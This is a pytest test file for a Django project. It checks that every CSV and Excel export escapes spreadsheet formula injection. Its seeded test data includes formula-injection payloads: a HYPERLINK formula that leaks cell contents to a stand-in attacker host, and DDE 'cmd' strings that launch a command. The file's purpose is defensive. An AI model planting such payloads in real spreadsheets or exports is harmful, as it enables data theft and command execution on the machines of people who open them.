"""Every CSV and Excel export neutralises formula injection (issue 9, item 6).

Values starting with = + - @, a tab or a carriage return are seeded into the names, notes and
summaries each export shows; the downloads are read back (csv, openpyxl) and every such cell
must be the seeded text with one apostrophe in front, and nothing else changed.

The exports: the states list (CSV and Excel, public), the challenge tags (CSV), the outreach
log (CSV) and the joining pipeline (CSV). They all go through states.exports (safe_cell); a new export that does not would
show up here once added to EXPORTS.
"""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from challenges.models import Challenge, ChallengeTag
from outreach.models import Visibility
from states.exports import FORMULA_PREFIXES
from states.models import Region
from tests.factories import StateFactory
from tests.outreach.factories import OutreachActivityFactory

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["Plain text", "a=b+c", "'already quoted", "1 - 2"]


@pytest.fixture
def seeded(db, secretariat):
    """One state per value (named with it), a tag and an activity carrying the same values."""
    taxonomy_items = []
    from challenges.services import taxonomy_load_report

    taxonomy_load_report()
    taxonomy_items = list(Challenge.objects.active().order_by("sort_key")[:1])
    states = []
    for index, value in enumerate(DANGEROUS + SAFE):
        state = StateFactory(
            iso3=f"Z{chr(65 + index)}Z",
            name_en=value,
            name_fr=value,
            name_es=value,
            region=Region.AFRICA,
        )
        states.append(state)
        ChallengeTag.objects.create(
            challenge=taxonomy_items[0],
            state=state,
            noted_on=dt.date(2018, 3, 1),
            source=value,
            document_symbol="",
            note=value,
            addressed_reason=value,
            recorded_by=secretariat,
        )
        OutreachActivityFactory(
            states=[state],
            actor_name=value,
            place=value,
            counterpart=value,
            summary=value,
            outcome=value,
            visibility=Visibility.PUBLIC,
        )
    return states


def _csv_cells(response) -> list[str]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(response) -> list[str]:
    assert response.status_code == 200, response.content[:300]
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    cells = [
        cell
        for row in workbook.active.iter_rows(values_only=True)
        for cell in row
        if isinstance(cell, str)
    ]
    # The file holds the carriage return as written, but XML parsers (openpyxl's, Excel's) read
    # a CR as LF (XML end-of-line handling): map it back to compare with the seeded value.
    seeded_cr = {"'" + v for v in DANGEROUS if "\r" in v}
    return [c.replace("\n", "\r") if c.replace("\n", "\r") in seeded_cr else c for c in cells]


def assert_neutralised(cells: list[str], *, expected_values: int):
    """Every seeded dangerous value appears only with its apostrophe; safe values unchanged;
    no cell at all starts with a formula character."""
    dangerous_found = [c for c in cells if c.startswith("'") and c[1:] in DANGEROUS]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], "a cell is a live formula"
    assert {c[1:] for c in dangerous_found} == set(DANGEROUS)
    assert len(dangerous_found) >= expected_values * len(DANGEROUS)
    for value in SAFE:
        assert value in cells, f"{value!r} was changed"
    assert "''already quoted" not in cells


EXPORTS = {
    # name: (URL name, query, reader, how many seeded columns each row repeats a value in)
    "states list (CSV)": ("states:export", {"format": "csv", "as_of": "2018-06-01"}, _csv_cells, 1),
    "states list (Excel)": (
        "states:export",
        {"format": "xlsx", "as_of": "2018-06-01"},
        _xlsx_cells,
        1,
    ),
    # state name, source, note, how it was addressed
    "challenge tags (CSV)": (
        "challenges:export",
        {"as_of": "2018-06-01", "status": "all"},
        _csv_cells,
        3,
    ),
    # actor name, states, place, counterpart, summary, outcome
    "outreach log (CSV)": ("outreach:export", {}, _csv_cells, 6),
    # state name (the seeded states are not parties: every one is a row of the pipeline)
    "joining pipeline (CSV)": ("pipeline:export", {"as_of": "2018-06-01"}, _csv_cells, 1),
}


@pytest.mark.parametrize("name", EXPORTS)
def test_export_neutralises_formula_injection(seeded, client_for, name):
    url_name, query, read, per_row = EXPORTS[name]
    response = client_for("secretariat").get(reverse(url_name), query)
    assert_neutralised(read(response), expected_values=per_row)


def test_every_export_view_is_covered():
    """The views that answer with text/csv or an Excel workbook are exactly those of EXPORTS."""
    import pathlib

    root = pathlib.Path(__file__).resolve().parents[2]
    users = set()
    for path in root.glob("*/**/*.py"):
        if ".venv" in path.parts or "tests" in path.parts or "migrations" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if any(word in text for word in ("csv_response(", "xlsx_response(", "text/csv")):
            users.add(path.relative_to(root).as_posix())
    assert users == {
        "states/exports.py",
        "states/views/public.py",
        "states/forms.py",  # only the upload's accept= attribute
        "challenges/exports.py",
        "challenges/views/reads.py",
        "outreach/exports.py",
        "outreach/views/log.py",
        "pipeline/forms.py",  # only the upload's accept= attribute
        "meetings/forms.py",  # only the participants upload's accept= attribute
        "dashboard/views.py",  # the joining pipeline's export
    }
